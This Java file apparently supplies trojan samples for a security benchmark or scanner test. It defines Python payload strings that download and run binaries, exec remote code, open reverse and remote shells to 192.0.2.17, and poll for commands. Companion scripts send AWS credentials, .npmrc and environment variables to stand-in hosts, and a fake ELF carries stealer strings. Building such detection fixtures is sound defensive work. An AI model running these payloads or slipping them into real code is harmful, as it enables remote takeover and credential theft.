package dev.assay.bench.trojan;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.ByteBuffer;
import java.util.Map;

/// Payloads that run what somebody else decides.
enum Runner implements Payload {
  DOWNLOAD_AND_RUN(
      """
      import os, subprocess, tempfile, urllib.request
      target = os.path.join(tempfile.gettempdir(), ".cache-helper")
      with open(target, "wb") as handle:
          handle.write(urllib.request.urlopen("http://192.0.2.17/helper").read())
      os.chmod(target, 0o755)
      subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
      """),
  REMOTE_TEXT(
      """
      import urllib.request
      exec(urllib.request.urlopen("https://collect.example/update.txt").read().decode())
      """),
  REMOTE_MODULE(
      """
      import requests, types
      text = requests.get("https://collect.example/plugin", timeout=5).text
      plugin = types.ModuleType("plugin")
      eval(compile(text, "plugin", "exec"), plugin.__dict__)
      """),
  SHELL(
      """
      import os
      os.system("curl -fsSL http://192.0.2.17/setup.sh | sh >/dev/null 2>&1 &")
      """),
  POWERSHELL(
      """
      import subprocess
      subprocess.Popen(
          "powershell -NoProfile -WindowStyle Hidden -Command "
          "iwr http://192.0.2.17/u.exe -OutFile $env:TEMP\\\\u.exe; Start-Process $env:TEMP\\\\u.exe",
          shell=True,
      )
      """),
  REMOTE_SHELL(
      """
      import socket, subprocess
      link = socket.socket()
      link.connect(("192.0.2.17", 4444))
      while True:
          command = link.recv(4096).decode()
          if not command:
              break
          link.send(subprocess.getoutput(command).encode())
      """),
  REVERSE_SHELL(
      """
      import os, pty, socket
      link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
      link.connect(("192.0.2.17", 443))
      for number in (0, 1, 2):
          os.dup2(link.fileno(), number)
      pty.spawn("/bin/sh")
      """),
  POLLING(
      """
      import os, time, urllib.request
      def poll():
          while True:
              try:
                  order = urllib.request.urlopen("https://collect.example/next").read().decode()
                  if order:
                      os.popen(order).read()
              except Exception:
                  pass
              time.sleep(60)
      import threading
      threading.Thread(target=poll, daemon=True).start()
      """),
  PIP_INSTALL(
      """
      import subprocess, sys
      subprocess.check_call(
          [sys.executable, "-m", "pip", "install", "-q", "https://collect.example/p.tar.gz"],
          stdout=subprocess.DEVNULL,
      )
      """),
  FOREIGN_RUNTIME(
      """
      import io, os, subprocess, urllib.request, zipfile
      home = os.path.join(os.path.dirname(__file__), ".runtime")
      data = urllib.request.urlopen("https://collect.example/linux-x64.zip").read()
      zipfile.ZipFile(io.BytesIO(data)).extractall(home)
      os.chmod(os.path.join(home, "bun"), 0o755)
      script = os.path.join(os.path.dirname(__file__), "router_init.js")
      subprocess.Popen([os.path.join(home, "bun"), "run", script])
      """) {
    @Override
    public Map<String, byte[]> companions() {
      String script =
          """
          const fs = require("fs"), os = require("os"), https = require("https");
          const keys = fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8");
          const call = https.request("https://collect.example/r", { method: "POST" });
          call.end(JSON.stringify({ env: process.env, keys }));
          """;
      return Map.of("router_init.js", script.getBytes(UTF_8));
    }
  },
  SHELL_SCRIPT(
      """
      import os, subprocess
      subprocess.Popen(["/bin/sh", os.path.join(os.path.dirname(__file__), "post.sh")])
      """) {
    @Override
    public Map<String, byte[]> companions() {
      String script =
          """
          #!/bin/sh
          cat "$HOME/.aws/credentials" "$HOME/.npmrc" | curl -s --data-binary @- http://192.0.2.17/c
          env | curl -s --data-binary @- http://192.0.2.17/e
          """;
      return Map.of("post.sh", script.getBytes(UTF_8));
    }
  },
  NATIVE_LIBRARY(
      """
      import ctypes, os
      ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libfast.so")).start()
      """) {
    @Override
    public Map<String, byte[]> companions() {
      return Map.of("libfast.so", program());
    }
  },
  SHIPPED_PROGRAM(
      """
      import os, subprocess
      tool = os.path.join(os.path.dirname(__file__), "agent.bin")
      os.chmod(tool, 0o755)
      subprocess.Popen([tool], close_fds=True)
      """) {
    @Override
    public Map<String, byte[]> companions() {
      return Map.of("agent.bin", program());
    }
  };

  private final String code;

  Runner(String code) {
    this.code = code;
  }

  @Override
  public String code() {
    return code;
  }

  /// The header of an ELF file that no loader accepts, and strings as a stealer has them.
  private static byte[] program() {
    String strings =
        "\0.symtab\0getenv\0connect\0execve\0/.aws/credentials\0/.ssh/id_rsa\0"
            + "http://192.0.2.17/drop\0Login Data\0/bin/sh\0-c\0";
    ByteBuffer file = ByteBuffer.allocate(4096);
    file.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0});
    file.position(16).put(new byte[] {3, 0, 62, 0, 1, 0, 0, 0});
    file.position(512).put(strings.getBytes(UTF_8));
    return file.array();
  }
}
